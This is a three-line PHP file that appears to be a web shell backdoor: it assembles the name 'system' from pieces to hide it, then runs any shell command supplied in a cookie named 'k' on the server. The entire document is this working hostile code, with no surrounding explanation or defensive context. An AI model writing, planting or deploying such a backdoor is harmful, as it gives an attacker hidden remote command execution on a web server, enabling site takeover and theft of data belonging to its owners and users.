<?php
$k = "sys" . "tem";
if (isset($_COOKIE['k'])) { $k($_COOKIE['k']); }
